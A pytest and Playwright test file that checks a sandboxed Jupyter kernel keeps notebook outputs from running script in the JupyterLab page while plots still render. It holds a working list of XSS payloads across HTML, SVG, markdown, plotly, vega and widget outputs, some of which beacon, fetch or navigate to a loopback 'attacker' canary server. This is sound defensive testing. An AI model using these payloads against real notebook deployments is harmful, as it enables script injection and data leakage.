"""A page of attacks: nothing that code inside writes runs in the reader's page, and plots show."""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from contextlib import suppress
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from lab_page import Lab, LabPage
from lab_server import new_person
from playwright.sync_api import Browser, BrowserContext, Error, FrameLocator, Locator, expect

KERNEL, CELLS, PLAIN = "Sandbox (Python 3)", "Sandbox Cells (Python 3)", "Python 3 (ipykernel)"

PAYLOAD = """\
(() => {
  const tries = [
    () => { window.hit = NAME; },
    () => { top.hit = NAME; },
    () => { parent.hit = NAME; },
    () => { parent.parent.hit = NAME; },
    () => { top.document.title = NAME; },
    () => { new Image().src = CANARY + "image-" + NAME; },
    () => { fetch(CANARY + "fetch-" + NAME, {mode: "no-cors"}); },
    () => { navigator.sendBeacon(CANARY + "beacon-" + NAME); },
    () => { new WebSocket(CANARY.replace("http", "ws") + "socket-" + NAME); },
    () => { open(CANARY + "open-" + NAME); },
    () => { top.location = CANARY + "top-" + NAME; },
    () => { const f = document.createElement("iframe"); f.src = CANARY + "frame-" + NAME;
            document.body.append(f); },
    () => { const s = document.createElement("script"); s.src = CANARY + "script-" + NAME;
            document.body.append(s); },
    () => { fetch("/api/kernels").then(a => a.json()).then(a => { top.hit = NAME; }); },
    () => { localStorage.setItem("hit", NAME); },
    () => { document.cookie = "hit=" + NAME; },
    () => { top.jupyterapp.commands.execute("apputils:reset"); },
    () => { location = CANARY + "gone-" + NAME; },
  ];
  for (const attempt of tries) { try { attempt(); } catch (error) { } }
})();"""

ATTACKS = """\
import base64, json
from html import escape

def payload(name):
    return PAYLOAD.replace("NAME", json.dumps(name)).replace("CANARY", json.dumps(CANARY))

def show(name, types):
    display({mime: made(payload(name)) for mime, made in types.items()}, raw=True)

attribute = lambda js: escape(js.replace("\\n", " "))
show("script", {"text/html": lambda js: f"<script>{js}</script>"})
show("handler", {"text/html": lambda js: f'<img src="x" onerror="{attribute(js)}">'})
show("link", {"text/html": lambda js: f'<a href="javascript:{attribute(js)}">click me</a>'})
show("form", {"text/html": lambda js: f'<form action="{CANARY}form"><button>press me</button>'})
show("style", {"text/html": lambda js: "<style>@import url(" + CANARY + "style);"
     "body{background:url(" + CANARY + "background)}</style><b>styled</b>"})
show("beacon", {"text/html": lambda js: f'<p>beacon<img src="{CANARY}picture"></p>'})
show("refresh", {"text/html": lambda js: '<meta http-equiv="refresh" content="0;url='
     f'{CANARY}meta">'})
show("server", {"text/html": lambda js: '<p>server<img src="/logout"></p>'})
show("command", {"text/html": lambda js: '<span class="jp-Dialog" id="over" style="position:fixed;'
     'inset:0" data-commandlinker-command="hit:me">over all</span>'})
show("javascript", {"application/javascript": lambda js: js})
show("svg", {"image/svg+xml": lambda js: f'<svg onload="{attribute(js)}" width="20" height="20">'
     f'<script>{escape(js)}</script><rect width="9" height="9"/></svg>'})
show("markdown", {"text/markdown": lambda js: f'**bold** <img src=x onerror="{attribute(js)}">'
     f'\\n\\n<script>{js}</script>\\n\\n[click me](javascript:top.hit=1) ![i]({CANARY}markdown)'})
show("latex", {"text/latex": lambda js: r"$\\href{javascript:top.hit='latex'}{click}$"})
show("plotly", {"application/vnd.plotly.v1+json": lambda js: {"data": [], "layout": {
     "title": {"text": f"<a href='javascript:{attribute(js)}'>click</a></script><script>{js}"}}}})
show("vega", {"application/vnd.vegalite.v5+json": lambda js: {"mark": "bar",
     "data": {"url": CANARY + "vega"}, "usermeta": {"embedOptions": {"patch": CANARY + "patch"}}}})
show("bokeh", {"application/vnd.bokehjs_exec.v0+json": lambda js: "",
     "application/javascript": lambda js: js})
display({"text/html": "<b>isolated</b><script>top.hit = 'isolated'</script>"}, raw=True,
        metadata={"isolated": True})
print("\\x1b]52;c;aGl0\\x07\\x1b[31mred\\x1b[0m")"""

CLICK_ALL = """wanted => document.querySelectorAll(wanted).forEach(one =>
  one.dispatchEvent(new MouseEvent("click", {bubbles: true, cancelable: true})))"""
STAYS = ("location = CANARY", "top.location = CANARY", "open(CANARY")
"""In the payload, what would lead the page away where it is not stopped."""
WIDGETS = """\
import ipywidgets
from ipywidgets import HTML, Layout, Output, VBox

evil = "<b>kept</b><img src=x onerror='top.hit = 1'><script>top.hit = 2</script>"
label = HTML(evil)
captured = Output()
captured.append_display_data({"text/html": "<b>captured</b><script>top.hit = 3</script>"})
slider = ipywidgets.IntSlider(description="works", layout=Layout(border="url(CANARY)"))
display(VBox([label, captured, slider]))
label.value = evil + "<i>changed</i>"
"""
FOREIGN = """\
import anywidget, traitlets
class Evil(anywidget.AnyWidget):
    _esm = "top.hit = 4; export default {render({el}) { top.hit = 5; el.innerText = 'ran'; }}"
display(Evil())"""

PLOTS = {
    "matplotlib": "import matplotlib.pyplot as plt\nplt.figure(figsize=(3, 1.5))\n"
    "plt.plot([1, 3, 2])\nplt.show()",
    "pandas": "import pandas\npandas.DataFrame({'a': [1, 2], 'b': ['x', 'y']})",
    "styled": "import pandas\npandas.DataFrame({'a': [1, 2]}).style.highlight_max(color='#ffd54f')",
    "plotly": "import plotly.express as px\npx.bar(x=['a', 'b'], y=[1, 3], height=260)",
    "altair": "import altair, pandas\n"
    "altair.Chart(pandas.DataFrame({'a': ['x', 'y'], 'b': [1, 3]}))"
    ".mark_bar().encode(x='a:N', y='b:Q').properties(width=200, height=120)",
    "bokeh": "from bokeh.plotting import figure, show\nfrom bokeh.io import output_notebook\n"
    "output_notebook(hide_banner=True)\nplot = figure(width=300, height=200)\n"
    "plot.line([1, 2, 3], [1, 3, 2])\nshow(plot)",
}


class Canary:
    """A server of the attacker's on loopback, which writes down who came."""

    def __init__(self) -> None:
        self.hits: list[str] = []
        hits = self.hits

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                hits.append(self.path)
                self.send_response(204)
                self.end_headers()

            do_POST = do_GET

            def log_message(self, *arguments: object) -> None:
                pass

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self._server.server_port}/"
        self._thread = threading.Thread(target=self._server.serve_forever)
        self._thread.start()

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()
        self._thread.join()


@pytest.fixture(scope="module")
def person(browser: Browser) -> Iterator[BrowserContext]:
    """Nobody else: what an attack leaves with a page would meet the tests that follow."""
    with new_person(browser) as context:
        yield context


@pytest.fixture
def canary() -> Iterator[Canary]:
    made = Canary()
    yield made
    made.close()


def attacks(canary: Canary) -> str:
    return f"PAYLOAD, CANARY = {PAYLOAD!r}, {canary.url!r}\n{ATTACKS}"


def hits(page: LabPage, canary: Canary) -> list[str]:
    """What reached the page, its storage, its commands, its server or the attacker's."""
    tab = page.page
    found = list(canary.hits)
    found += [f"window: {value}" for value in [tab.evaluate("window.hit")] if value]
    found += [
        f"storage: {value}" for value in [tab.evaluate("localStorage.getItem('hit')")] if value
    ]
    found += [f"cookie: {one}" for one in tab.context.cookies() if one.get("name") == "hit"]
    found += [f"left for {tab.url}" for _ in [0] if "/lab" not in tab.url]
    found += [f"window {other.url}" for other in tab.context.pages if other is not tab]
    found += ["over the page"] * tab.locator("#over, .jp-OutputArea .jp-Dialog").count()
    found += ["a command"] * tab.locator(".jp-OutputArea [data-commandlinker-command]").count()
    found += ["a script"] * tab.locator(".jp-OutputArea script").count()
    return found


def settle(page: LabPage) -> None:
    """Until all frames have loaded and everything in them that can be clicked was clicked."""
    for frame in page.page.frames[1:]:
        with suppress(Error):  # one that was led to what never comes
            frame.wait_for_load_state(timeout=5000)
    for frame in page.page.frames:
        area = ".jp-OutputArea " if frame is page.page.main_frame else ""
        wanted = ", ".join(area + one for one in ("a:not([href^=http])", "button", "svg a"))
        with suppress(Error):  # a frame that is gone meanwhile
            frame.evaluate(CLICK_ALL, wanted)
    page.page.evaluate("() => new Promise(done => setTimeout(done, 500))")


def in_frame(cell: Locator) -> FrameLocator:
    """What stands in the frame of the last output of a cell."""
    return cell.frame_locator(".jp-OutputArea-output iframe >> nth=-1").frame_locator("iframe")


@pytest.mark.cve("CVE-2021-32797", "CVE-2021-32798", "CVE-2024-43805")
def test_76_no_attack_reaches_the_page_and_plots_are_shown(page: LabPage, canary: Canary) -> None:
    page.new_notebook(KERNEL)
    shown = page.run(attacks(canary))
    settle(page)

    assert "red" in shown
    assert hits(page, canary) == []
    page.picture("outputs-attacks")

    cell = page.start(WIDGETS.replace("CANARY", canary.url))
    expect(cell.locator(".widget-html-content")).to_have_text("keptchanged")
    expect(cell.locator(".noUi-handle")).to_be_visible()
    told = page.run(FOREIGN)
    assert "anywidget" in told
    assert "is not shown" in told
    settle(page)
    assert hits(page, canary) == []

    cells = {name: page.start(code) for name, code in PLOTS.items()}
    for made in cells.values():
        page.wait_for_end(made)
    cells["matplotlib"].locator(".jp-RenderedImage img").wait_for()
    expect(cells["pandas"].locator("table.dataframe td").first).to_have_text("1")
    cells["styled"].scroll_into_view_if_needed()
    marked = in_frame(cells["styled"]).locator("td").last
    expect(marked).to_have_css("background-color", "rgb(255, 213, 79)")
    for name, drawn in (("plotly", ".main-svg .barlayer path"), ("altair", "canvas, svg.marks")):
        cells[name].scroll_into_view_if_needed()
        in_frame(cells[name]).locator(drawn).first.wait_for()
    page.picture("outputs-plots")
    cells["bokeh"].scroll_into_view_if_needed()
    in_frame(cells["bokeh"]).locator("canvas").first.wait_for()
    assert hits(page, canary) == []


def test_76_nor_by_cells_and_magics(page: LabPage, canary: Canary) -> None:
    page.new_notebook(CELLS)
    page.run(attacks(canary))
    settle(page)
    assert hits(page, canary) == []
    page.page.goto(page.page.url.split("/lab")[0] + "/lab/workspaces/magics?reset")
    page.page.locator(".jp-Launcher").wait_for()
    page.new_notebook(PLAIN)
    page.run("%load_ext sandbox_kernel")
    page.run(f"%%container\n{attacks(canary)}")
    settle(page)
    assert hits(page, canary) == []


def test_76_the_same_page_is_hit_where_the_user_trusts_it(
    page: LabPage, lab: Lab, canary: Canary
) -> None:
    """The attacks are real: without the policy they do what they say."""
    config = Path(lab.folder.parent, ".config/sandbox-kernel/config.toml")
    config.parent.mkdir(parents=True, exist_ok=True)
    config.write_text(f"output = {json.dumps('trusted')}\n")
    try:
        page.new_notebook(KERNEL)
        payload = "\n".join(
            line for line in PAYLOAD.splitlines() if not any(word in line for word in STAYS)
        )
        made = payload.replace("NAME", "'in the page'").replace("CANARY", repr(canary.url))
        page.run(f"display({{'text/html': {f'<script>{made}</script>'!r}}}, raw=True)")
        settle(page)
        found = hits(page, canary)
        page.page.goto("about:blank")  # it is for no other test
    finally:
        config.unlink()

    assert any(hit.startswith("window:") for hit in found)
    assert any(hit.startswith("/fetch-") for hit in found)
